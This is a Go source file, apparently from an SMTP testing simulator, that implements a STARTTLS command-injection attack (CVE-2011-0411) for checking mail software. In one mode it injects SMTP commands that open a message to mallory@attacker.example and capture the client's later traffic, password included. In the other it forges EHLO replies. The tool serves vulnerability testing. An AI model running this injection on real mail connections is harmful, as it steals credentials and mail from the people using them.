package fakefirewall

import (
	"slices"
	"strings"

	"github.com/smtplab/smtplab/sim/catalogue"
)

func init() {
	register(entry{
		name:    "starttls-injected",
		summary: "puts lines of its own behind STARTTLS, or behind the answer to it",
		story: `Somebody who stands between client and server cannot read TLS, but can add to what is said before it, in the same
segment. A server that keeps what it read ahead hears the added commands as if they came under TLS (CVE-2011-0411): here
they begin a message to the attacker, of which all that the client then says becomes the content, its password included. A
client that keeps what it read ahead takes the added lines for the answer to its EHLO under TLS: here they allow messages of
one octet. RFC 3207 section 4.2 has both forget what they know from before.`,
		params: []catalogue.Param{
			{Name: "way", Default: "to-server", Usage: "who is lied to: to-server or to-client"},
			{Name: "to", Default: "mallory@attacker.example", Usage: "recipient of the message that is begun"},
		},
		make: func(s *catalogue.Settings) (stream, error) {
			mail := []string{"EHLO attacker.example", "MAIL FROM:<mallory@attacker.example>", "RCPT TO:<" + s.String("to") + ">", "DATA"}
			if s.Choice("way", "to-server", "to-client") == "to-client" {
				return following(func() rules { return rules{reply: addReplies([]string{"250-attacker.example", "250 SIZE 1"})} }), nil
			}
			return following(func() rules { return rules{command: addCommands(mail)} }), nil
		},
	})
}

// addCommands puts lines behind STARTTLS.
func addCommands(lines []string) rule {
	return func(s *session, u unit) {
		if u.verb != "STARTTLS" || !u.ends {
			s.pass(u)
			return
		}
		s.put(u, with(u.text, lines))
		s.note("injected %d lines behind STARTTLS", len(lines))
	}
}

// addReplies puts lines behind the 220 with which the server lets TLS begin.
func addReplies(lines []string) rule {
	return func(s *session, u unit) {
		if u.verb != "STARTTLS" || u.code != "220" || !u.last {
			s.pass(u)
			return
		}
		s.put(u, with(u.text, lines))
		s.note("injected %d lines behind the 220 to STARTTLS", len(lines))
	}
}

func with(text []byte, lines []string) []byte {
	return append(slices.Clone(text), strings.Join(lines, "\r\n")+"\r\n"...)
}
